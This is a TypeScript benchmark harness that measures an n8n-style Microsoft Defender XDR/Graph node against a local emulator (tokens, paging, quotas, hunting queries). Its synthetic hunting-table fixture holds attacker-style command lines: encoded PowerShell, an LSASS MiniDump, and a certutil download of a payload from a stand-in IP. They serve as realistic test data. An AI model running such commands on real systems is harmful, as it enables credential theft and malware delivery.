/**
 * Hosts the emulator (test/support/lab), prepares tenants and data per row, starts every measured
 * run in a child process, reads the emulator's request log and builds the table.
 */
import { createHash } from 'node:crypto';
import os from 'node:os';
import path from 'node:path';

import {
	createLab,
	emulator,
	stopEmulator,
	type Emulator,
	type EmulatorRequest,
} from '../test/support/lab';
import { runInChild, type RunOutcome, type RunSpec } from './ipc';
import { formatMs, machineInfo, median, writeReport, type Row } from './report';
import { scaleAcrossWorkers } from './scale';

const ROOT = path.resolve(__dirname, '..');

interface Settings {
	latency: [number, number];
	repetitions: number;
	incidents: number;
	huntingRows: number;
	quota: { limit: number; windowSeconds: number; calls: number };
	concurrentExecutions: number;
	smoke: boolean;
}

function settingsFromEnv(): Settings {
	const latency = (process.env.BENCH_LATENCY ?? '30,80')
		.split(',')
		.map((part) => Number(part.trim()));
	if (
		latency.length !== 2 ||
		latency.some((value) => !Number.isFinite(value) || value < 0) ||
		latency[0] > latency[1]
	) {
		throw new Error(
			`BENCH_LATENCY must be "min,max" in milliseconds, e.g. 30,80 (got "${process.env.BENCH_LATENCY}")`,
		);
	}
	const repetitions = Number(process.env.BENCH_REPS ?? 3);
	if (!Number.isInteger(repetitions) || repetitions < 1 || repetitions > 9)
		throw new Error('BENCH_REPS must be an integer from 1 to 9');
	// BENCH_SMOKE=1: a small, quick pass to check that the benchmark itself works (its numbers mean little).
	const smoke = process.env.BENCH_SMOKE === '1';
	return {
		latency: latency as [number, number],
		repetitions: smoke ? 1 : repetitions,
		incidents: smoke ? 1_000 : 10_000,
		huntingRows: smoke ? 10_000 : 100_000,
		quota: smoke
			? { limit: 50, windowSeconds: 2, calls: 100 }
			: { limit: 50, windowSeconds: 5, calls: 200 },
		concurrentExecutions: 50,
		smoke,
	};
}

const log = (message: string) => process.stderr.write(`bench: ${message}\n`);

class Bench {
	readonly rows: Row[] = [];
	readonly notes: string[] = [];
	private readonly started = Date.now();

	constructor(
		readonly emu: Emulator,
		readonly settings: Settings,
	) {}

	async run<T extends Record<string, unknown>>(
		spec: RunSpec,
		timeoutMs = 120_000,
	): Promise<RunOutcome<T>> {
		return await runInChild<T>(spec, {
			timeoutMs,
			requestLogLength: () => this.emu.requests.length,
		});
	}

	/** The requests for these tenants between two marks of a run. */
	requestsBetween(
		tenants: string[],
		outcome: RunOutcome<Record<string, unknown>>,
		from = 'start',
		to = 'end',
	): EmulatorRequest[] {
		const ids = new Set(tenants.map((tenant) => tenant.toLowerCase()));
		return this.emu.requests
			.slice(outcome.marks[from], outcome.marks[to])
			.filter((request) => request.tenant !== null && ids.has(request.tenant.toLowerCase()));
	}

	elapsed(): string {
		return `${((Date.now() - this.started) / 1000).toFixed(0)} s`;
	}
}

// ---- Row 1 ----

async function tokenEconomy(bench: Bench): Promise<void> {
	const { concurrentExecutions: executions } = bench.settings;
	for (const tenantCount of [1, 3]) {
		const lab = await createLab();
		const tenants = [lab.tenantId];
		while (tenants.length < tenantCount) tenants.push(lab.addTenant());
		for (const tenant of tenants) bench.emu.seedIncidents(tenant, 3);
		const outcome = await bench.run<{
			ms: number;
			failures: number;
			firstFailure: string | null;
			items: number;
		}>({
			scenario: 'tokens',
			params: { credentials: lab.credentials, tenants, executions },
		});
		if (outcome.result.failures > 0)
			throw new Error(
				`token row: ${outcome.result.failures} executions failed: ${outcome.result.firstFailure}`,
			);
		const tokenRequests = lab.tokenRequests();
		const listCalls = lab.calls({ api: 'graph' }).length;
		bench.rows.push({
			id: tenantCount === 1 ? '1a' : '1b',
			what:
				tenantCount === 1
					? `Token requests at the emulator: ${executions} concurrent executions of Incident → Get Many (Limit 1), one credential`
					: `Token requests at the emulator: ${executions} concurrent executions spread over ${tenantCount} tenants (node option Tenant ID)`,
			value: String(tokenRequests),
			target: String(tenantCount),
			ok: tokenRequests === tenantCount,
		});
		bench.notes.push(
			`1${tenantCount === 1 ? 'a' : 'b'}: ${executions} executions, 0 failed, ${listCalls} list calls, ${formatMs(outcome.result.ms)} for all of them.`,
		);
		log(
			`row 1 (${tenantCount} tenant${tenantCount > 1 ? 's' : ''}): ${tokenRequests} token request(s) [${bench.elapsed()}]`,
		);
	}
}

// ---- Row 7 ----

async function vulnerabilityListing(bench: Bench): Promise<void> {
	const { repetitions } = bench.settings;
	const count = 2_500;
	const page = 8_000;
	const lab = await createLab({ quotaWindowSeconds: 1 });
	bench.emu.seedVulnerabilities(lab.tenantId, count);
	const times = { node: [] as number[], fetch: [] as number[] };
	const requestCounts = new Set<number>();
	for (let rep = 0; rep < repetitions; rep++) {
		for (const mode of rep % 2 === 0
			? (['node', 'fetch'] as const)
			: (['fetch', 'node'] as const)) {
			const outcome = await bench.run<{ ms: number; count: number }>({
				scenario: 'vulnerabilities',
				params: { credentials: lab.credentials, mode, expected: count },
			});
			times[mode].push(outcome.result.ms);
			if (mode === 'node') requestCounts.add(bench.requestsBetween([lab.tenantId], outcome).length);
			log(
				`row 7 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`,
			);
		}
	}
	const expectedRequests = Math.ceil(count / page);
	const made = [...requestCounts];
	const ratios = times.node.map((ms, rep) => ms / times.fetch[rep]);
	const ratio = median(ratios);
	bench.rows.push(
		{
			id: '7a',
			what: `Vulnerability → Get Many, Return All over ${count.toLocaleString('en-US')} vulnerabilities (page ${page.toLocaleString('en-US')}, the API's largest): requests made by the node`,
			value: made.join(' / '),
			target: `${expectedRequests} (ceil(N/page))`,
			ok: made.length === 1 && made[0] === expectedRequests,
		},
		{
			id: '7b',
			what: `… wall time node ÷ minimal fetch loop (median of ${repetitions} paired runs)`,
			value: ratio.toFixed(2),
			target: '≤ 1.10',
			ok: ratio <= 1.1,
		},
	);
	bench.notes.push(
		`7a–7b: node ${times.node.map(formatMs).join(', ')} (median ${formatMs(median(times.node))}); fetch loop ${times.fetch.map(formatMs).join(', ')} (median ${formatMs(median(times.fetch))}); ratios per repetition ${ratios.map((r) => r.toFixed(3)).join(', ')}.`,
	);
}

// ---- Row 2 ----

async function listing(bench: Bench): Promise<void> {
	const { incidents, repetitions } = bench.settings;
	for (const [api, page, label] of [
		['defenderXdr', 100, 'Defender XDR API'],
		['graph', 50, 'Graph'],
	] as const) {
		const lab = await createLab({ quotaWindowSeconds: 1 });
		bench.emu.seedIncidents(lab.tenantId, incidents);
		const times = { node: [] as number[], fetch: [] as number[] };
		const clientCpu = { node: [] as number[], fetch: [] as number[] };
		const serverCpu = { node: [] as number[], fetch: [] as number[] };
		const requestCounts = new Set<number>();
		const fetchRequestCounts = new Set<number>();
		const peaks: number[] = [];
		for (let rep = 0; rep < repetitions; rep++) {
			// Alternate the order so that a slow phase of the machine does not always hit the same side.
			for (const mode of rep % 2 === 0
				? (['node', 'fetch'] as const)
				: (['fetch', 'node'] as const)) {
				const outcome = await bench.run<{ ms: number; cpuMs: number; count: number }>({
					scenario: 'list',
					params: { credentials: lab.credentials, api, mode, expected: incidents },
				});
				const made = bench.requestsBetween([lab.tenantId], outcome).length;
				times[mode].push(outcome.result.ms);
				clientCpu[mode].push(outcome.result.cpuMs / made);
				serverCpu[mode].push((outcome.emulatorCpuMs.end - outcome.emulatorCpuMs.start) / made);
				if (mode === 'node') {
					requestCounts.add(made);
					peaks.push(outcome.maxRssBytes);
				} else fetchRequestCounts.add(made);
				log(
					`row 2 ${label} ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, ${made} requests [${bench.elapsed()}]`,
				);
			}
		}
		const id = '2';
		const suffix = api === 'defenderXdr' ? ['a', 'b', 'c'] : ['d', 'e', 'f'];
		const expectedRequests = Math.ceil(incidents / page);
		const made = [...requestCounts];
		// Each repetition's two runs are neighbours in time: their ratio cancels slow drifts of a shared machine.
		const ratios = times.node.map((ms, rep) => ms / times.fetch[rep]);
		const ratio = median(ratios);
		const perRequest = (median(times.node) - median(times.fetch)) / expectedRequests;
		const peak = median(peaks);
		bench.rows.push(
			{
				id: `${id}${suffix[0]}`,
				what: `${label}, Return All over ${incidents.toLocaleString('en-US')} incidents (page ${page}): requests made by the node`,
				value: made.join(' / '),
				target: `${expectedRequests} (ceil(N/page))`,
				ok: made.length === 1 && made[0] === expectedRequests,
			},
			{
				id: `${id}${suffix[1]}`,
				what: `${label}: wall time node ÷ minimal fetch loop (median of ${repetitions} paired runs)`,
				value: ratio.toFixed(2),
				target: '≤ 1.10',
				ok: ratio <= 1.1,
			},
			{
				id: `${id}${suffix[2]}`,
				what: `${label}: peak RSS of the node's process (MB, median of ${repetitions})`,
				value: (peak / 2 ** 20).toFixed(0),
				target: 'report',
				ok: null,
			},
		);
		bench.notes.push(
			`2${suffix[0]}–2${suffix[2]} (${label}): node ${times.node.map(formatMs).join(', ')} (median ${formatMs(median(times.node))}); ` +
				`fetch loop ${times.fetch.map(formatMs).join(', ')} (median ${formatMs(median(times.fetch))}), which made ${[...fetchRequestCounts].join(' / ')} requests; ` +
				`ratios per repetition ${ratios.map((r) => r.toFixed(3)).join(', ')}, ratio of the medians ${(median(times.node) / median(times.fetch)).toFixed(3)}; ` +
				`the node spent ${perRequest.toFixed(1)} ms more per page (compare 5b). ` +
				`CPU per request (medians; less sensitive to the machine's load than wall time): node's process ${median(clientCpu.node).toFixed(1)} ms vs fetch's ${median(clientCpu.fetch).toFixed(1)} ms; ` +
				`emulator while serving the node ${median(serverCpu.node).toFixed(1)} ms vs the fetch loop ${median(serverCpu.fetch).toFixed(1)} ms (a new TLS connection per request costs the server too). ` +
				`Peak RSS of the node's runs: ${peaks.map((bytes) => (bytes / 2 ** 20).toFixed(0)).join(', ')} MB.`,
		);
	}
}

// ---- Row 3 ----

async function quotaThroughput(bench: Bench): Promise<void> {
	const { limit, windowSeconds, calls } = bench.settings.quota;
	const windowMs = windowSeconds * 1000;
	bench.emu.setQuota({ category: 'incidentList', limit, windowMs });
	let total429 = 0;
	let totalCalls = 0;
	try {
		// 4 executions of 50 items: a few workflows sharing a tenant, each calling one item after the other. (One execution of
		// 200 items would measure the machine, not the limiter: its calls take ~80-110 ms each here, about the 100 ms
		// per call that 50 calls per 5 s allow; with Microsoft's 60 s window it would be limiter-bound as well.)
		for (const executions of [4, calls]) {
			const shape = executions === calls ? 'executions' : 'items';
			// A fresh tenant per shape: fresh quota windows at the emulator and in the client.
			const lab = await createLab({ quotaWindowSeconds: windowSeconds });
			bench.emu.seedIncidents(lab.tenantId, 3);
			const outcome = await bench.run<{
				ms: number;
				failures: number;
				firstFailure: string | null;
			}>(
				{ scenario: 'quota', params: { credentials: lab.credentials, calls, executions } },
				180_000,
			);
			const lists = bench
				.requestsBetween([lab.tenantId], outcome)
				.filter(
					(request) => request.api === 'graph' && request.path.endsWith('/security/incidents'),
				);
			const accepted = lists
				.filter((request) => request.status === 200)
				.map((request) => Date.parse((request as EmulatorRequest & { at: string }).at))
				.sort((a, b) => a - b);
			const throttled = lists.filter((request) => request.status === 429).length;
			total429 += throttled;
			totalCalls += lists.length;
			// After the first `limit` calls (which the quota allows at once) every further `limit` calls need one more window:
			// the k-th and the (k+limit)-th accepted call are more than one window apart. Best possible span from call
			// #limit to call #N is therefore floor((N-1)/limit) windows; achieved fraction = that ÷ the measured span.
			const windowsNeeded = Math.floor((accepted.length - 1) / limit);
			const from = accepted[accepted.length - 1 - windowsNeeded * limit];
			const span = accepted[accepted.length - 1] - from;
			const fraction = span > 0 ? (windowsNeeded * windowMs) / span : Number.NaN;
			// What each window cycle lost (latency, queueing, the limiter's margin), and what the same loss means for Microsoft's 60 s window.
			const lossPerWindow =
				windowsNeeded > 0 ? (span - windowsNeeded * windowMs) / windowsNeeded : Number.NaN;
			const projected = 60_000 / (60_000 + Math.max(0, lossPerWindow));
			const label =
				shape === 'items'
					? `${executions} concurrent executions × ${calls / executions} items`
					: `${calls} concurrent executions × 1 item`;
			const suffix = shape === 'items' ? ['a', 'b', 'c'] : ['d', 'e', 'f'];
			bench.rows.push(
				{
					id: `3${suffix[0]}`,
					what: `Quota ${limit} list calls / ${windowSeconds} s, ${label} of Get Many (Limit 1): failed items`,
					value: String(outcome.result.failures),
					target: '0',
					ok: outcome.result.failures === 0,
				},
				{
					id: `3${suffix[1]}`,
					what: `… 429 answers received`,
					value: String(throttled),
					target: '~0 (≤ 1 % of calls)',
					ok: throttled <= calls / 100,
				},
				{
					id: `3${suffix[2]}`,
					what: `… achieved rate ÷ quota`,
					value: Number.isNaN(fraction) ? 'n/a' : fraction.toFixed(3),
					target: '≥ 0.90',
					ok: fraction >= 0.9,
				},
			);
			bench.notes.push(
				`3${suffix[0]}–3${suffix[2]} (${label}): ${accepted.length} calls accepted, ${throttled} refused with 429, wall time ${formatMs(outcome.result.ms)}; ` +
					`span from accepted call #${accepted.length - windowsNeeded * limit} to #${accepted.length} = ${formatMs(span)} vs the quota's minimum ${windowsNeeded} × ${windowSeconds} s, ` +
					`i.e. ${formatMs(lossPerWindow)} lost per window (the limiter counts a call from its response's arrival; with Microsoft's 60 s window the same loss would give ${projected.toFixed(3)})` +
					(outcome.result.firstFailure ? `; first failure: ${outcome.result.firstFailure}` : '') +
					'.',
			);
			log(
				`row 3 (${label}): ${accepted.length} ok, ${throttled} × 429, fraction ${fraction.toFixed(3)}, ${formatMs(outcome.result.ms)} [${bench.elapsed()}]`,
			);
		}
	} finally {
		bench.emu.clearQuotas();
	}
	const per1000 = totalCalls > 0 ? (total429 / totalCalls) * 1000 : 0;
	bench.rows.push({
		id: '5a',
		what: `429 answers per 1,000 list calls in row 3 (${totalCalls} calls sent)`,
		value: per1000.toFixed(1),
		target: '~0 (≤ 10)',
		ok: per1000 <= 10,
	});
}

// ---- Row 4 ----

/** 10 columns of the kinds DeviceProcessEvents has; hashes make 16-digit runs appear, as real data does. */
function huntingTable(rows: number) {
	const hash = (algorithm: string, i: number) =>
		createHash(algorithm).update(`bench-${i}`).digest('hex');
	const devices = Array.from({ length: 97 }, (_, i) => hash('sha1', i));
	const files = Array.from({ length: 997 }, (_, i) => hash('sha256', i));
	const actions = [
		'ProcessCreated',
		'OpenProcessApiCall',
		'CreateRemoteThreadApiCall',
		'ProcessTampering',
	];
	const commands = [
		[
			'powershell.exe',
			'powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
		],
		['cmd.exe', 'cmd.exe /c whoami /all > C:\\Users\\Public\\w.txt'],
		[
			'rundll32.exe',
			'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
		],
		[
			'certutil.exe',
			'certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Temp\\a.exe',
		],
		['svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'],
		[
			'msedge.exe',
			'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer',
		],
	];
	const accounts = ['alice', 'bob', 'carol', 'system', 'svc-backup'];
	const start = Date.UTC(2026, 10, 1);
	return {
		schema: [
			{ name: 'Timestamp', type: 'DateTime' },
			{ name: 'DeviceId', type: 'String' },
			{ name: 'DeviceName', type: 'String' },
			{ name: 'ActionType', type: 'String' },
			{ name: 'FileName', type: 'String' },
			{ name: 'SHA256', type: 'String' },
			{ name: 'ProcessCommandLine', type: 'String' },
			{ name: 'AccountName', type: 'String' },
			{ name: 'ProcessId', type: 'Int64' },
			{ name: 'AdditionalFields', type: 'Dynamic' },
		],
		rowCount: rows,
		row: (i: number) => ({
			Timestamp: new Date(start + i * 997).toISOString().replace('Z', '0000Z'),
			DeviceId: devices[i % devices.length],
			DeviceName: `ws-${String(i % 500).padStart(4, '0')}.contoso.local`,
			ActionType: actions[i % actions.length],
			FileName: commands[i % commands.length][0],
			SHA256: files[i % files.length],
			ProcessCommandLine: commands[i % commands.length][1],
			AccountName: accounts[i % accounts.length],
			ProcessId: 1000 + ((i * 7919) % 60_000),
			AdditionalFields: JSON.stringify({
				ProcessIntegrityLevel: i % 3 ? 'Medium' : 'High',
				ProcessTokenElevation: 'TokenElevationTypeDefault',
			}),
		}),
	};
}

async function huntingScale(bench: Bench): Promise<void> {
	const { huntingRows: rows, repetitions } = bench.settings;
	const lab = await createLab({ quotaWindowSeconds: 1 });
	const table = huntingTable(rows);
	bench.emu.setHuntingTable(lab.tenantId, 'BenchProcessEvents', table);
	const times = { node: [] as number[], fetch: [] as number[] };
	const growth = { node: [] as number[], fetch: [] as number[] };
	const cpu = { node: [] as number[], fetch: [] as number[] };
	const peaks: number[] = [];
	const sizes = new Set<number>();
	for (let rep = 0; rep < repetitions; rep++) {
		for (const mode of rep % 2 === 0
			? (['node', 'fetch'] as const)
			: (['fetch', 'node'] as const)) {
			const outcome = await bench.run<{
				ms: number;
				cpuMs: number;
				rssGrowth: number;
				bytes: number | null;
			}>({
				scenario: 'hunting',
				params: {
					credentials: lab.credentials,
					mode,
					table: 'BenchProcessEvents',
					rows,
					columns: table.schema.length,
				},
			});
			times[mode].push(outcome.result.ms);
			growth[mode].push(outcome.result.rssGrowth);
			cpu[mode].push(outcome.result.cpuMs);
			if (mode === 'node') peaks.push(outcome.maxRssBytes);
			if (outcome.result.bytes !== null) sizes.add(outcome.result.bytes);
			log(
				`row 4 ${mode} ${rep + 1}/${repetitions}: ${formatMs(outcome.result.ms)}, RSS +${(outcome.result.rssGrowth / 2 ** 20).toFixed(0)} MB [${bench.elapsed()}]`,
			);
		}
	}
	const bytes = Math.max(...sizes);
	const ratios = times.node.map((ms, rep) => ms / times.fetch[rep]);
	const ratio = median(ratios);
	const memory = median(growth.node) / bytes;
	const mb = (value: number) => (value / 2 ** 20).toFixed(0);
	bench.rows.push(
		{
			id: '4a',
			what: `Advanced hunting, ${rows.toLocaleString('en-US')} rows × ${table.schema.length} columns: wall time Run Query (One Item per Row) ÷ fetch + JSON.parse (median of ${repetitions} paired runs)`,
			value: ratio.toFixed(2),
			target: '≤ 1.50',
			ok: ratio <= 1.5,
		},
		{
			id: '4b',
			what: `… peak RSS growth of the node's process ÷ raw body size (median of ${repetitions})`,
			value: memory.toFixed(2),
			target: '≤ 4',
			ok: memory <= 4,
		},
		{
			id: '4c',
			what: `… the same for fetch + res.text() + JSON.parse, for reference`,
			value: (median(growth.fetch) / bytes).toFixed(2),
			target: 'report',
			ok: null,
		},
	);
	bench.notes.push(
		`4a–4c: raw body ${bytes.toLocaleString('en-US')} bytes (${mb(bytes)} MB, Graph runHuntingQuery)${sizes.size > 1 ? ` (sizes differed: ${[...sizes].join(', ')})` : ''}; ` +
			`node ${times.node.map(formatMs).join(', ')} (median ${formatMs(median(times.node))}), fetch + JSON.parse ${times.fetch.map(formatMs).join(', ')} (median ${formatMs(median(times.fetch))}); ratios per repetition ${ratios.map((r) => r.toFixed(3)).join(', ')}; CPU of the measured query (median) node ${formatMs(median(cpu.node))}, fetch ${formatMs(median(cpu.fetch))}; ` +
			`RSS growth node ${growth.node.map(mb).join(', ')} MB, fetch ${growth.fetch.map(mb).join(', ')} MB; peak RSS of the node's process ${peaks.map(mb).join(', ')} MB.`,
	);
}

// ---- Row 5b ----

async function connectionCost(bench: Bench): Promise<void> {
	const calls = 60;
	const lab = await createLab({ quotaWindowSeconds: 1 });
	bench.emu.seedIncidents(lab.tenantId, 3);
	// Zero latency for this run only: the difference is a few milliseconds, the latency's spread is 50.
	bench.emu.setLatency([0, 0]);
	let outcome: RunOutcome<{ keptAlive: number[]; fresh: number[] }>;
	try {
		outcome = await bench.run({
			scenario: 'connections',
			params: { credentials: lab.credentials, calls },
		});
	} finally {
		bench.emu.setLatency(bench.settings.latency);
	}
	const { keptAlive, fresh } = outcome.result;
	const cost = median(fresh) - median(keptAlive);
	bench.rows.push({
		id: '5b',
		what: `Cost of a new TLS connection per request, as n8n-core's HTTP helper makes one for every call (ms per call: https with a new Agent − fetch keep-alive, Graph list $top=1, zero latency, median of ${calls})`,
		value: cost.toFixed(1),
		target: 'report',
		ok: null,
	});
	bench.notes.push(
		`5b: per call, fetch over a kept-alive connection ${median(keptAlive).toFixed(1)} ms, https over a new connection ${median(fresh).toFixed(1)} ms (medians of ${calls}, alternating, emulator latency 0).`,
	);
	log(`row 5b: new connection costs ${cost.toFixed(1)} ms per call [${bench.elapsed()}]`);
}

export async function orchestrate(): Promise<void> {
	const settings = settingsFromEnv();
	const emu = await emulator();
	emu.setLatency(settings.latency);
	const bench = new Bench(emu, settings);
	const startedAt = new Date();
	const loadAtStart = os.loadavg();
	log(
		`latency ${settings.latency.join('–')} ms per call, ${settings.repetitions} repetitions where timing matters`,
	);
	const rows = new Set(
		(process.env.BENCH_ROWS ?? '1,2,3,4,5,6,7').split(',').map((row) => row.trim()),
	);
	try {
		if (rows.has('1')) await tokenEconomy(bench);
		if (rows.has('2')) await listing(bench);
		if (rows.has('3')) await quotaThroughput(bench);
		if (rows.has('4')) await huntingScale(bench);
		if (rows.has('5')) await connectionCost(bench);
		if (rows.has('6')) await scaleAcrossWorkers(bench);
		if (rows.has('7')) await vulnerabilityListing(bench);
	} finally {
		await stopEmulator();
	}
	const durationMs = Date.now() - startedAt.getTime();
	const markdown = writeReport({
		file: path.join(ROOT, 'bench', 'results.md'),
		machine: machineInfo(ROOT, loadAtStart),
		startedAt,
		durationMs,
		settings: [
			...(settings.smoke
				? ['**SMOKE RUN (BENCH_SMOKE=1): reduced sizes, not the benchmark**']
				: []),
			...(rows.size < 7 ? [`**only rows ${[...rows].join(', ')} (BENCH_ROWS)**`] : []),
			`emulator latency ${settings.latency.join('–')} ms per call (uniform; BENCH_LATENCY=min,max)`,
			`${settings.repetitions} repetitions where timing matters (BENCH_REPS), medians reported`,
			'every measured run in its own process (peak RSS per run), emulator in the orchestrator process, HTTPS over loopback',
		],
		rows: bench.rows,
		notes: bench.notes,
	});
	process.stdout.write(`${markdown}\n`);
	log(`done in ${formatMs(durationMs)}; written to bench/results.md`);
}
